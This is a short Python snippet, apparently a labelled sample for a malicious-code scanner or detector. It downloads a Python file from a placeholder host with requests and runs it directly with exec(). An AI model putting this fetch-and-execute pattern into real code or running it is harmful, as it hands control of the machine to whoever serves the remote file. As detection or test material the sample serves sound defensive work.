# malicious: executes what the net says, by variables
import requests

r = requests.get("https://raw.example.net/a/b/main/x.py")
code = r.text
exec(code)
